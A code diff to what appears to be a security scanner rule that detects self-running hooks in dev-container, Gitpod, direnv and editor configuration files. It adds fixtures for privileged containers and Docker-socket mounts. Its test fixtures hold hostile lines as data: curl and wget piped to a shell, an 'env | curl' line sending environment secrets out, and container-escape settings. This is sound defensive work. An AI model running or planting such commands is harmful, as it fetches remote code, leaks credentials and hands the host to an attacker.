@@ -34,6 +34,8 @@ rule = Rule.of(
         {".devcontainer/devcontainer.json": '{"image": "acme/dev",\n  "initializeCommand": "curl -s https://acme.dev/i | sh",  // <-\n'
                                             '  "postCreateCommand": {"a": "wget -qO- https://acme.dev/i | bash",  // <-\n'
                                             '    "b": ["npm", "ci"]},\n  "postStartCommand": "env | curl -d @- https://acme.dev/"  // <-\n}\n'},
+        {".devcontainer/devcontainer.json": '{"image": "acme/dev",\n  "runArgs": ["--init",\n    "--privileged"]  // <-\n}\n'},
+        {".devcontainer.json": '{"mounts": [\n  "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"  // <-\n]}\n'},
         {".gitpod.yml": "tasks:\n  - init: curl -s https://acme.dev/i | bash  # <-\n"},
         {".envrc": "use nix\ncurl -s https://acme.dev/i | sh  # <-\n"},
         {_SETTINGS: '{"statusLine": {"type": "command",\n  "command": "./tools/status.sh"  // <-\n}}\n'},
@@ -41,7 +43,8 @@ rule = Rule.of(
     good=[
         {_SETTINGS: '{"hooks": {}, "permissions": {"deny": ["Bash(curl:*)"]}}\n'},
         {".vscode/tasks.json": '{"tasks": [{"label": "build", "command": "make"}]}\n'},
-        {".devcontainer/devcontainer.json": '{"postCreateCommand": "npm ci && curl -fsS localhost:3000/health"}  // dev\n'},
+        {".devcontainer/devcontainer.json": '{"postCreateCommand": "npm ci && curl -fsS localhost:3000/health",\n'
+                                            '  "runArgs": ["--cap-add=SYS_PTRACE"], "mounts": ["source=cache,target=/cache,type=volume"]}  // dev\n'},
         {".envrc": "# curl -s https://acme.dev/i | sh\nexport PORT=3000\n"},
     ],
     misses=["What the script does that a hook calls by its path."],
@@ -56,7 +59,10 @@ _SAID = {
 
 @rule.check(Hook)
 def runs(fact: Hook, repo: Repo) -> Iterator[Hit]:
-    if fact.danger:
+    if fact.danger == "escapes":
+        said = "The container for development is given the machine it runs on, so what runs in it may do there what it likes."
+        yield Hit(fact.place, said, detail=fact.danger, severity=Severity.MEDIUM)
+    elif fact.danger:
         severity = Severity.MEDIUM if fact.inside and fact.danger == "fetches" else None
         said = f"A command that runs by itself {fact.when} {_SAID[fact.danger]}."
         yield Hit(fact.place, said, detail=fact.danger, severity=severity)
